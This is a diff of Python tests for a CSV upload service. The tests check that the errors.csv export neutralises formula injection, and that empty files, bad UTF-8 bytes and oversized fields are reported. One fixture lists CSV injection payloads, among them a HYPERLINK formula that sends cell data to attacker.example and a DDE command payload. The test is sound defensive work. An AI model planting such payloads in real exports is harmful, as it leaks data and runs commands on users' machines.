@@ -229,3 +229,90 @@ async def test_a_malformed_multipart_body_is_a_422(service: Service) -> None:
 
     assert response.status_code == 422
     assert "malformed" in response.json()["detail"][0]["msg"]
+
+
+# What a spreadsheet may take for the start of a formula (OWASP's CSV injection list, with the full-width forms).
+FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+# What the uploader's CSV had in its email column, and what errors.csv says instead.
+HOSTILE_EMAILS = {
+    '=HYPERLINK("http://attacker.example/?"&A1)': '\'=HYPERLINK("http://attacker.example/?"&A1)',
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(1+1)": "'@SUM(1+1)",
+    "   =1+1": "'   =1+1",
+    "\uff1d1+1": "'\uff1d1+1",
+    # A tab or CR first, and a formula behind it for a spreadsheet that splits there.
+    "\t=1+1": "'\t'=1+1",
+    "\r=1+1": "'\r'=1+1",
+    "\t\tplain": "'\t\tplain",
+    "\rplain": "'\rplain",
+    # A formula behind a delimiter or a quote, where another spreadsheet may start a cell.
+    "a;=1+1": "a;'=1+1",
+    "a,@SUM(1)": "a,'@SUM(1)",
+    'a"=1+1': "a\"'=1+1",
+    "nul\x00here": "nul\ufffdhere",
+}
+
+
+async def test_errors_csv_neutralises_every_formula_and_holds_no_nul(tmp_path: Path, smtp_sink: SmtpSink) -> None:
+    upload_csv = io.StringIO()
+    writer = csv.writer(upload_csv)
+    writer.writerow(["email", "first_name", "login_url"])
+    for email in HOSTILE_EMAILS:
+        writer.writerow([email, "Eve", "https://example.com"])
+    async with running(make_settings(tmp_path, smtp_sink.port, JOBS_DIR=tmp_path / "jobs")) as service:
+        response = await upload(service, upload_csv.getvalue().encode())
+        assert response.status_code == 202, response.text
+        done = await wait_for_job(service, response.json()["id"], "done", "failed")
+        assert done["rejected"] == len(HOSTILE_EMAILS), done
+        errors_csv = await service.client.get(f"/v1/jobs/{done['id']}/errors.csv")
+
+    assert b"\x00" not in errors_csv.content
+    rows = list(csv.reader(io.StringIO(errors_csv.text)))[1:]
+    assert [email for _, email, _ in rows] == list(HOSTILE_EMAILS.values())
+    # A spreadsheet that splits at another delimiter (';' in many locales, tab) finds no formula either.
+    for delimiter in (",", ";", "\t"):
+        for row in csv.reader(io.StringIO(errors_csv.text, newline=""), delimiter=delimiter):
+            for cell in row:
+                assert not cell.lstrip().startswith(FORMULA_STARTS), (delimiter, cell)
+                assert not cell.startswith(("\t", "\r")), (delimiter, cell)
+
+
+async def test_an_empty_file_is_reported_as_empty_not_as_missing(service: Service) -> None:
+    empty = await upload(service, b"")
+    only_a_bom = await upload(service, b"\xef\xbb\xbf")
+
+    assert [empty.status_code, only_a_bom.status_code] == [422, 422]
+    for response in (empty, only_a_bom):
+        assert "the file is empty" in detail(response), detail(response)
+        assert "no `file` part" not in detail(response)
+
+
+async def test_a_bad_byte_is_reported_where_it_is_in_the_file(tmp_path: Path, smtp_sink: SmtpSink) -> None:
+    head = people_csv(5000) + b"person-x@example.com,Zo"
+    deep = head + "é,https://example.com\n".encode("latin-1")
+    assert len(head) > 64 * 1024, "deeper than any read chunk"
+    # In the header row, after a byte-order mark: the offset counts the mark's three bytes too.
+    in_header = b"\xef\xbb\xbfemail,pr\xe9nom\na@example.com,Zoe\n"
+    async with running(make_settings(tmp_path, smtp_sink.port, JOBS_DIR=tmp_path / "jobs")) as service:
+        response = await upload(service, deep)
+        assert response.status_code == 202, response.text
+        failed = await wait_for_job(service, response.json()["id"], "done", "failed")
+        refused = await upload(service, in_header)
+
+    assert failed["status"] == "failed"
+    assert f"not UTF-8 text: byte 0xe9 at byte offset {len(head)} (line 5002)" in failed["reason"], failed["reason"]
+    assert refused.status_code == 422
+    assert "not UTF-8 text: byte 0xe9 at byte offset 11 (line 1)" in detail(refused), detail(refused)
+
+
+async def test_a_row_the_csv_reader_cannot_take_is_reported_with_its_line(tmp_path: Path, smtp_sink: SmtpSink) -> None:
+    # A field over the csv module's limit (128 KiB) on the CSV's line 4.
+    content = people_csv(2) + b'"' + b"x" * 200_000 + b'",Zoe,https://example.com\n'
+    async with running(make_settings(tmp_path, smtp_sink.port, JOBS_DIR=tmp_path / "jobs")) as service:
+        response = await upload(service, content)
+        failed = await wait_for_job(service, response.json()["id"], "done", "failed")
+
+    assert failed["status"] == "failed"
+    assert "line 4" in failed["reason"], failed["reason"]
+    assert "field larger than field limit" in failed["reason"]
